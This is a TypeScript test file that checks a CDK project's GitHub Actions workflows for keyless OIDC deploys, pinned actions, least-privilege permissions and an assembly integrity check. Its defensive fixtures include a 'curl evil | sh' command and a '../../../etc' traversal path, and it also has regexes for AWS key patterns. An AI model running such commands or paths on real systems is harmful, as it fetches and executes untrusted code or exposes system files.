import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { App, Stack } from 'aws-cdk-lib';
import { Asset } from 'aws-cdk-lib/aws-s3-assets';
import { parseDocument } from 'yaml';
import { DEPLOY_BRANCH, DEPLOY_WORKFLOW_FILE } from '../lib/contract';
import { REPO_ROOT } from './support/cdk-app';

/**
 * The GitHub Actions workflows, read as GitHub reads them (YAML 1.2, duplicate keys refused): keyless deploys
 * (no AWS access key anywhere, an OIDC token only where the deploy runs), pinned actions, and the README's
 * commands on every pull request.
 */

const WORKFLOWS = path.join(REPO_ROOT, '.github', 'workflows');
const CONFIGURE_AWS_CREDENTIALS = 'aws-actions/configure-aws-credentials';

type Json = Record<string, unknown>;
interface Step {
  readonly name?: string;
  readonly uses?: string;
  readonly run?: string;
  readonly with?: Json;
  readonly id?: string;
  readonly env?: Json;
}
interface Job {
  readonly permissions?: unknown;
  readonly environment?: unknown;
  readonly if?: string;
  readonly container?: unknown;
  readonly strategy?: { matrix?: Json };
  readonly steps: Step[];
}
interface Workflow {
  readonly file: string;
  readonly text: string;
  readonly on: Json;
  readonly permissions?: unknown;
  readonly jobs: Record<string, Job>;
}

function readWorkflows(): Workflow[] {
  return fs
    .readdirSync(WORKFLOWS)
    .sort()
    .map((file) => {
      const text = fs.readFileSync(path.join(WORKFLOWS, file), 'utf8');
      const doc = parseDocument(text, { uniqueKeys: true, prettyErrors: true });
      if (doc.errors.length > 0) throw new Error(`${file}: ${doc.errors.map((e) => e.message).join('; ')}`);
      return { file, text, ...(doc.toJS() as Omit<Workflow, 'file' | 'text'>) };
    });
}

const workflows = readWorkflows();
const byFile = (file: string): Workflow => {
  const found = workflows.find((w) => w.file === file);
  if (!found) throw new Error(`.github/workflows/${file} is missing`);
  return found;
};
const allSteps = (w: Workflow): Step[] => Object.values(w.jobs).flatMap((job) => job.steps);
const actionOf = (step: Step): string | undefined => step.uses?.split('@')[0];

test('the test and deploy workflows are there, and every file in the folder is a workflow GitHub can parse', () => {
  expect(workflows.map((w) => w.file)).toEqual(expect.arrayContaining(['deploy.yml', 'test.yml']));
  for (const w of workflows) {
    expect({ file: w.file, yaml: /\.ya?ml$/.test(w.file) }).toEqual({ file: w.file, yaml: true });
    expect(Object.keys(w.jobs).length).toBeGreaterThan(0);
    for (const job of Object.values(w.jobs)) expect(job.steps.length).toBeGreaterThan(0);
  }
});

describe('no AWS access key is read anywhere', () => {
  it.each(workflows.map((w) => [w.file, w] as const))('%s reads no secret and names no key', (_file, w) => {
    // Nothing in CI needs a secret: the deploy trades an OIDC token for a role.
    expect(w.text).not.toMatch(/\bsecrets\s*\./i);
    expect(w.text).not.toMatch(/aws-access-key-id|aws-secret-access-key|aws-session-token/i);
    expect(w.text).not.toMatch(/AWS_ACCESS_KEY_ID|AWS_SECRET_ACCESS_KEY|AWS_SESSION_TOKEN/i);
    expect(w.text).not.toMatch(/\b(AKIA|ASIA)[A-Z0-9]{16}\b/);
  });

  it('configure-aws-credentials is given a role to assume with the OIDC token, never keys', () => {
    const uses = workflows.flatMap(allSteps).filter((s) => actionOf(s) === CONFIGURE_AWS_CREDENTIALS);
    expect(uses).toHaveLength(2);
    for (const use of uses) {
      const inputs = use.with ?? {};
      expect(inputs['role-to-assume']).toEqual(expect.any(String));
      expect(Object.keys(inputs).sort()).toEqual([
        'allowed-account-ids',
        'aws-region',
        'role-session-name',
        'role-to-assume',
      ]);
    }
  });
});

describe('permissions', () => {
  it.each(workflows.map((w) => [w.file, w] as const))(
    '%s grants read access to the repository at the top, nothing more',
    (_file, w) => {
      expect(w.permissions).toEqual({ contents: 'read' });
    },
  );

  it('id-token: write is granted in the deploy and verify jobs alone (not where npm ci and synth run)', () => {
    const grants: string[] = [];
    for (const w of workflows) {
      const scopes: [string, unknown][] = [
        [`${w.file} (workflow)`, w.permissions],
        ...Object.entries(w.jobs).map(([name, job]): [string, unknown] => [
          `${w.file} jobs.${name}`,
          job.permissions,
        ]),
      ];
      for (const [where, permissions] of scopes) {
        if (typeof permissions === 'string') grants.push(`${where}: ${permissions}`);
        else if (permissions && (permissions as Json)['id-token'] !== undefined) {
          grants.push(`${where}: id-token ${String((permissions as Json)['id-token'])}`);
        }
      }
    }
    expect(grants).toEqual([
      'deploy.yml jobs.deploy: id-token write',
      'deploy.yml jobs.verify: id-token write',
    ]);
    // The deploy job checks nothing out: it needs no read access to the repository either.
    expect(byFile('deploy.yml').jobs.deploy.permissions).toEqual({ 'id-token': 'write' });
    expect(byFile('deploy.yml').jobs.verify.permissions).toEqual({ contents: 'read', 'id-token': 'write' });
    expect(byFile('deploy.yml').jobs.synth.permissions).toEqual({ contents: 'read' });
  });
});

describe('every action is pinned', () => {
  const usesLines = workflows.flatMap((w) =>
    w.text
      .split('\n')
      .filter((line) => /^\s*(-\s+)?uses:/.test(line))
      .map((line) => ({ file: w.file, line: line.trim() })),
  );

  it('to the full commit SHA of a release, the tag in a comment beside it', () => {
    expect(usesLines.length).toBeGreaterThan(0);
    const unpinned = usesLines.filter(
      ({ line }) => !/^(-\s+)?uses: [\w.-]+\/[\w./-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$/.test(line),
    );
    expect(unpinned).toEqual([]);
  });

  it('every uses: the parser sees is one of those lines (no flow-style or quoted form slips past)', () => {
    const parsed = workflows.flatMap((w) => allSteps(w).flatMap((s) => (s.uses ? [s.uses] : [])));
    expect(parsed.length).toBe(usesLines.length);
    for (const uses of parsed) expect(uses).toMatch(/^[\w.-]+\/[\w./-]+@[0-9a-f]{40}$/);
  });

  it('to one SHA per action across the workflows', () => {
    const shas = new Map<string, Set<string>>();
    for (const { line } of usesLines) {
      const [action, rest] = line.replace(/^(-\s+)?uses: /, '').split('@');
      shas.set(action, (shas.get(action) ?? new Set()).add(rest));
    }
    for (const [action, pins] of shas) expect({ action, pins: pins.size }).toEqual({ action, pins: 1 });
  });
});

describe('the test workflow', () => {
  const w = byFile('test.yml');

  it('runs on every pull request and on pushes to main', () => {
    expect(Object.keys(w.on).sort()).toEqual(['pull_request', 'push']);
    expect(w.on.pull_request).toBeNull();
    expect(w.on.push).toEqual({ branches: ['main'] });
  });

  it('runs npm ci, npm run synth and npm test in that order, in one job, on Node from .nvmrc with an npm cache', () => {
    const job = w.jobs.test;
    const runs = job.steps.flatMap((s) => (s.run ? [s.run.trim()] : []));
    const order = ['npm ci', 'npm run synth', 'npm test'].map((command) =>
      runs.findIndex((run) => run === command || run.startsWith(`${command} `)),
    );
    expect(order.every((index) => index >= 0)).toBe(true);
    expect([...order].sort((a, b) => a - b)).toEqual(order);
    const setupNode = job.steps.find((s) => actionOf(s) === 'actions/setup-node');
    expect(setupNode?.with).toEqual({ 'node-version-file': '.nvmrc', cache: 'npm' });
  });

  it('refuses the log lines .ci/run refuses after synth and the unit tests, and fails when they fail (pipefail)', () => {
    const ciRun = fs.readFileSync(path.join(REPO_ROOT, '.ci', 'run'), 'utf8');
    const refused = (text: string) => /grep -E '([^']+)'/.exec(text)?.[1];
    expect(refused(ciRun)).toEqual(expect.stringContaining('feature flags are not configured'));
    const checked = [
      w.jobs.test.steps.find((s) => s.run?.trim().startsWith('npm run synth')),
      ...w.jobs['node-lines'].steps.filter((s) => /^npm run (synth|test:unit)\b/.test(s.run?.trim() ?? '')),
    ];
    expect(checked).toHaveLength(3);
    for (const step of checked) {
      expect(refused(step?.run ?? '')).toBe(refused(ciRun));
      expect((step as Step & { shell?: string }).shell).toBe('bash');
    }
  });

  it('runs as root on Debian, where npm test can install its tools and run the root-only device tests', () => {
    expect(w.jobs.test.container).toEqual({
      image: expect.stringMatching(/^debian:/),
      options: '--privileged',
    });
  });

  it('covers the other Node lines engines allows with synth and the unit tests', () => {
    const pkg = JSON.parse(fs.readFileSync(path.join(REPO_ROOT, 'package.json'), 'utf8'));
    const lines = [...String(pkg.engines.node).matchAll(/(\d+)\.\d+\.\d+/g)].map((m) => m[1]);
    const nvmrc = fs.readFileSync(path.join(REPO_ROOT, '.nvmrc'), 'utf8').trim();
    expect(lines).toContain(nvmrc);
    const matrix = (w.jobs['node-lines'].strategy?.matrix?.node ?? []) as string[];
    expect([nvmrc, ...matrix].sort()).toEqual([...lines].sort());
    const runs = w.jobs['node-lines'].steps.flatMap((s) => (s.run ? [s.run.trim().split(' 2>&1')[0]] : []));
    expect(runs).toEqual(['npm ci', 'npm run synth', 'npm run test:unit']);
  });
});

describe('the deploy workflow', () => {
  const w = byFile('deploy.yml');
  const { synth, deploy, verify } = w.jobs as Record<
    string,
    Job & { needs?: unknown; concurrency?: unknown; env?: Json; outputs?: Json }
  >;
  const runs = (job: Job): string[] => job.steps.flatMap((s) => (s.run ? [s.run.trim()] : []));
  const indexIn = (job: Job, match: (s: Step) => boolean): number => job.steps.findIndex(match);
  const pkg = JSON.parse(fs.readFileSync(path.join(REPO_ROOT, 'package.json'), 'utf8'));
  const lock = JSON.parse(fs.readFileSync(path.join(REPO_ROOT, 'package-lock.json'), 'utf8'));

  it('is the workflow file and branch the deploy and verify roles trust (job_workflow_ref, ref)', () => {
    expect(fs.existsSync(path.join(REPO_ROOT, DEPLOY_WORKFLOW_FILE))).toBe(true);
    expect(path.join('.github', 'workflows', w.file)).toBe(DEPLOY_WORKFLOW_FILE);
    for (const job of Object.values(w.jobs))
      expect(job.if).toBe(`github.ref == 'refs/heads/${DEPLOY_BRANCH}'`);
  });

  it('runs only by hand, from main, as three jobs: synth, then deploy in the chosen GitHub environment, then verify', () => {
    expect(Object.keys(w.on)).toEqual(['workflow_dispatch']);
    expect(Object.keys(w.jobs)).toEqual(['synth', 'deploy', 'verify']);
    for (const job of [synth, deploy, verify]) expect(job.if).toBe("github.ref == 'refs/heads/main'");
    expect(deploy.environment).toBe('${{ inputs.environment }}');
    expect(synth.environment).toBeUndefined();
    expect(deploy.needs).toBe('synth');
    expect(verify.needs).toEqual(['synth', 'deploy']);
  });

  it('synthesizes and validates in a job that cannot mint an OIDC token, and hands the assembly on as an artifact', () => {
    expect(synth.permissions).toEqual({ contents: 'read' });
    const install = indexIn(synth, (s) => s.run?.trim() === 'npm ci');
    const target = indexIn(synth, (s) => s.id === 'target');
    const build = indexIn(synth, (s) => s.run?.trim() === 'npm run synth -- -c "env=$KEYLESS_ENV"');
    const digest = indexIn(synth, (s) => s.id === 'digest');
    const upload = indexIn(synth, (s) => actionOf(s) === 'actions/upload-artifact');
    expect([install, target, build, digest, upload].every((i) => i >= 0)).toBe(true);
    expect(install < target && target < build && build < digest && digest < upload).toBe(true);
    expect(synth.steps[target].run?.trim()).toBe(
      'node scripts/deploy-target.js --github-environment "$DEPLOY_ENVIRONMENT" >> "$GITHUB_OUTPUT"',
    );
    expect(synth.steps[build].env).toEqual({ KEYLESS_ENV: '${{ steps.target.outputs.keyless-env }}' });
    expect(synth.steps[upload].with).toEqual({
      name: 'cloud-assembly',
      path: 'cdk.out',
      'if-no-files-found': 'error',
      'include-hidden-files': true,
      'retention-days': 7,
    });
    expect(synth.outputs).toEqual({
      'keyless-env': '${{ steps.target.outputs.keyless-env }}',
      account: '${{ steps.target.outputs.account }}',
      region: '${{ steps.target.outputs.region }}',
      'role-arn': '${{ steps.target.outputs.role-arn }}',
      'verify-role-arn': '${{ steps.target.outputs.verify-role-arn }}',
      'assembly-digest': '${{ steps.digest.outputs.assembly-digest }}',
    });
  });

  it('deploys in a job that runs no project or dependency code: nothing checked out, no npm ci, no npx, no scripts', () => {
    expect(deploy.steps.filter((s) => actionOf(s) === 'actions/checkout')).toEqual([]);
    const commands = runs(deploy).join('\n');
    expect(commands).not.toMatch(/\bnpm (ci|run|test|exec|start)\b|\bnpx\b|\bnode\s|\byarn\b|\bpnpm\b/);
    // The only npm calls fetch one package and install it, neither running a lifecycle script.
    const npmCalls = [...commands.matchAll(/^\s*npm .*$/gm)].map((m) => m[0].trim());
    expect(npmCalls).toHaveLength(2);
    for (const call of npmCalls) expect(call).toContain('--ignore-scripts');
    expect(npmCalls[1]).toContain('--no-save');
    const setupNode = deploy.steps.find((s) => actionOf(s) === 'actions/setup-node');
    const nvmrc = fs.readFileSync(path.join(REPO_ROOT, '.nvmrc'), 'utf8').trim();
    expect(setupNode?.with).toEqual({ 'node-version': nvmrc, 'package-manager-cache': false });
  });

  it("installs package.json's CDK CLI, checked against package-lock.json's integrity, into a prefix of its own", () => {
    expect(deploy.env?.CDK_CLI_VERSION).toBe(pkg.devDependencies['aws-cdk']);
    expect(deploy.env?.CDK_CLI_INTEGRITY).toBe(lock.packages['node_modules/aws-cdk'].integrity);
    // The CLI package bundles its dependencies: nothing else is resolved at install time.
    expect(lock.packages['node_modules/aws-cdk'].dependencies).toBeUndefined();
    const install = deploy.steps.find((s) => s.name?.startsWith('Install the CDK CLI'))?.run ?? '';
    expect(install).toContain('npm pack --ignore-scripts "aws-cdk@$CDK_CLI_VERSION"');
    expect(install).toMatch(
      /if \[ "\$actual" != "\$CDK_CLI_INTEGRITY" \]; then[\s\S]*exit 1[\s\S]*npm install --ignore-scripts --no-save/,
    );
    expect(install).toContain('--prefix "$RUNNER_TEMP/cdk-cli"');
  });

  it('checks the downloaded assembly, assumes the deploy role, and deploys it from an empty directory, last', () => {
    const download = indexIn(deploy, (s) => actionOf(s) === 'actions/download-artifact');
    const check = indexIn(deploy, (s) => s.name?.startsWith('Check the assembly') ?? false);
    const credentials = indexIn(deploy, (s) => actionOf(s) === CONFIGURE_AWS_CREDENTIALS);
    const last = deploy.steps.length - 1;
    expect([download, check, credentials].every((i) => i >= 0)).toBe(true);
    expect(download < check && check < credentials && credentials < last).toBe(true);
    expect(deploy.steps[download].with).toEqual({
      name: 'cloud-assembly',
      path: '${{ runner.temp }}/assembly',
    });
    expect(deploy.steps[credentials].with).toMatchObject({
      'role-to-assume': '${{ needs.synth.outputs.role-arn }}',
      'aws-region': '${{ needs.synth.outputs.region }}',
      'allowed-account-ids': '${{ needs.synth.outputs.account }}',
    });
    const lines = (deploy.steps[last].run ?? '')
      .trim()
      .split('\n')
      .map((l) => l.trim());
    expect(lines).toEqual([
      'set -eu',
      'mkdir -p "$RUNNER_TEMP/empty" "$RUNNER_TEMP/cdk-home"',
      'cd "$RUNNER_TEMP/empty"',
      'HOME="$RUNNER_TEMP/cdk-home" "$RUNNER_TEMP/cdk-cli/node_modules/.bin/cdk" deploy --app "$RUNNER_TEMP/assembly" --all --require-approval never --no-notices',
    ]);
  });

  it('serializes deploys on the keyless-iot environment (from the config), not on the GitHub environment name', () => {
    expect((w as unknown as Json).concurrency).toBeUndefined();
    expect(deploy.concurrency).toEqual({
      group: 'keyless-deploy-${{ needs.synth.outputs.keyless-env }}',
      'cancel-in-progress': false,
    });
    expect(deploy.env?.KEYLESS_ENV).toBe('${{ needs.synth.outputs.keyless-env }}');
    // A GitHub environment's KEYLESS_ENV variable may only agree with the config.
    const agree = deploy.steps[0].run ?? '';
    expect(deploy.env?.GITHUB_ENVIRONMENT_KEYLESS_ENV).toBe('${{ vars.KEYLESS_ENV }}');
    expect(agree).toContain('[ "$GITHUB_ENVIRONMENT_KEYLESS_ENV" != "$KEYLESS_ENV" ]');
    expect(agree).toContain('exit 1');
  });

  it('runs keyless verify after the deploy, with the read-only verify role, outside the GitHub environment', () => {
    expect(verify.environment).toBeUndefined();
    expect(verify.env).toEqual({ KEYLESS_ENV: '${{ needs.synth.outputs.keyless-env }}' });
    const credentials = verify.steps.filter((s) => actionOf(s) === CONFIGURE_AWS_CREDENTIALS);
    expect(credentials).toHaveLength(1);
    expect(credentials[0].with?.['role-to-assume']).toBe('${{ needs.synth.outputs.verify-role-arn }}');
    expect(runs(verify)).toEqual(['npm ci', 'npx keyless verify --env "$KEYLESS_ENV" --json']);
    expect(verify.steps[verify.steps.length - 1].run?.trim()).toBe(
      'npx keyless verify --env "$KEYLESS_ENV" --json',
    );
    expect(verify.steps.find((s) => actionOf(s) === 'actions/setup-node')?.with).toEqual({
      'node-version-file': '.nvmrc',
      'package-manager-cache': false,
    });
  });

  describe('the assembly check the deploy job runs before any credential exists', () => {
    const digestStep = synth.steps.find((s) => s.id === 'digest')?.run ?? '';
    const checkStep = deploy.steps.find((s) => s.name?.startsWith('Check the assembly'))?.run ?? '';
    let work: string;

    /** A real cloud assembly: one stack with a file asset (a hidden file included), as cdk synth writes it. */
    function synthesize(): string {
      const source = fs.mkdtempSync(path.join(os.tmpdir(), 'keyless-asset-'));
      fs.writeFileSync(path.join(source, 'index.js'), 'exports.handler = async () => 1;\n');
      fs.writeFileSync(path.join(source, '.hidden'), 'kept\n');
      const outdir = fs.mkdtempSync(path.join(os.tmpdir(), 'keyless-assembly-'));
      const app = new App({ outdir });
      const stack = new Stack(app, 'KeylessIot-test-Data', {
        env: { account: '222222222222', region: 'ap-northeast-1' },
      });
      new Asset(stack, 'Scripts', { path: source });
      app.synth();
      return outdir;
    }

    /** Runs the synth job's digest step on `assembly` (as cdk.out), then the deploy job's check on it. */
    function check(
      assembly: string,
      change: (dir: string) => void = () => {},
      afterDigest: (dir: string) => void = () => {},
    ) {
      fs.rmSync(work, { recursive: true, force: true });
      fs.mkdirSync(path.join(work, 'synth'), { recursive: true });
      fs.cpSync(assembly, path.join(work, 'synth', 'cdk.out'), { recursive: true });
      change(path.join(work, 'synth', 'cdk.out'));
      const output = path.join(work, 'github-output');
      fs.writeFileSync(output, '');
      const shell = (script: string, cwd: string, env: Record<string, string>) =>
        spawnSync('bash', ['--noprofile', '--norc', '-eo', 'pipefail', '-c', script], {
          cwd,
          encoding: 'utf8',
          env: { PATH: process.env.PATH ?? '', ...env },
        });
      const synthRun = shell(digestStep, path.join(work, 'synth'), {
        GITHUB_OUTPUT: output,
        GITHUB_STEP_SUMMARY: path.join(work, 'summary'),
        DEPLOY_ENVIRONMENT: 'prod',
      });
      expect(synthRun.stderr).toBe('');
      const digest = /^assembly-digest=([0-9a-f]{64})$/m.exec(fs.readFileSync(output, 'utf8'))?.[1] ?? '';
      expect(digest).toMatch(/^[0-9a-f]{64}$/);
      fs.cpSync(path.join(work, 'synth', 'cdk.out'), path.join(work, 'runner', 'assembly'), {
        recursive: true,
      });
      afterDigest(path.join(work, 'runner', 'assembly'));
      return shell(checkStep, work, { RUNNER_TEMP: path.join(work, 'runner'), ASSEMBLY_DIGEST: digest });
    }

    const assetManifest = (dir: string): string => {
      const file = fs.readdirSync(dir).find((f) => f.endsWith('.assets.json'));
      if (!file) throw new Error(`no asset manifest in ${dir}`);
      return path.join(dir, file);
    };
    const editJson = (file: string, edit: (json: Json) => void) => {
      const json = JSON.parse(fs.readFileSync(file, 'utf8'));
      edit(json);
      fs.writeFileSync(file, JSON.stringify(json));
    };
    let assembly: string;
    beforeAll(() => {
      assembly = synthesize();
      work = fs.mkdtempSync(path.join(os.tmpdir(), 'keyless-deploy-check-'));
    });
    afterAll(() => fs.rmSync(work, { recursive: true, force: true }));

    it('passes the assembly synth made, hidden files included', () => {
      const result = check(assembly);
      expect(result.stdout + result.stderr).toBe('');
      expect(result.status).toBe(0);
    });

    it.each<[string, (dir: string) => void, string]>([
      [
        'an asset the CLI would make by running a command',
        (dir) =>
          editJson(assetManifest(dir), (m) => {
            const files = m.files as Record<string, { source: Json }>;
            Object.values(files)[0].source = { executable: ['sh', '-c', 'curl evil | sh'] };
          }),
        'runs a command',
      ],
      [
        'a container image asset (a Dockerfile runs code)',
        (dir) =>
          editJson(assetManifest(dir), (m) => {
            m.dockerImages = { img: { source: { directory: 'asset.x' }, destinations: {} } };
          }),
        'container image asset img',
      ],
      [
        'a file asset outside the assembly',
        (dir) =>
          editJson(assetManifest(dir), (m) => {
            const files = m.files as Record<string, { source: Json }>;
            Object.values(files)[0].source = { path: '../../../etc', packaging: 'zip' };
          }),
        'is not a path inside the assembly',
      ],
      [
        'a nested assembly',
        (dir) =>
          editJson(path.join(dir, 'manifest.json'), (m) => {
            (m.artifacts as Json).Nested = { type: 'cdk:cloud-assembly', properties: { directoryName: 'x' } };
          }),
        'artifact Nested has type cdk:cloud-assembly',
      ],
    ])('refuses %s', (_name, change, message) => {
      const result = check(assembly, change);
      expect(result.status).toBe(1);
      expect(result.stdout).toContain('::error::the assembly asks for more than a deploy');
      expect(result.stdout).toContain(message);
    });

    it('refuses an assembly changed after the synth job took its digest (a file, or a file added)', () => {
      const changed = check(assembly, undefined, (dir) =>
        fs.appendFileSync(path.join(dir, 'manifest.json'), ' '),
      );
      expect(changed.status).toBe(1);
      expect(changed.stdout).toContain('is not the one the synth job made');
      const added = check(assembly, undefined, (dir) =>
        fs.writeFileSync(path.join(dir, 'cdk.json'), '{"app":"x"}'),
      );
      expect(added.status).toBe(1);
      expect(added.stdout).toContain('is not the one the synth job made');
    });
  });
});

describe('untrusted input', () => {
  it.each(workflows.map((w) => [w.file, w] as const))(
    '%s splices no ${{ }} expression into a shell script (values reach run: steps through env)',
    (_file, w) => {
      const spliced = allSteps(w).filter((s) => s.run !== undefined && s.run.includes('${{'));
      expect(spliced.map((s) => s.name ?? s.run)).toEqual([]);
    },
  );

  it.each(workflows.map((w) => [w.file, w] as const))(
    '%s does not run on pull_request_target or workflow_run, and checks out without keeping the token',
    (_file, w) => {
      expect(Object.keys(w.on)).not.toEqual(expect.arrayContaining(['pull_request_target']));
      expect(Object.keys(w.on)).not.toEqual(expect.arrayContaining(['workflow_run']));
      for (const step of allSteps(w).filter((s) => actionOf(s) === 'actions/checkout')) {
        expect(step.with).toMatchObject({ 'persist-credentials': false });
      }
    },
  );
});
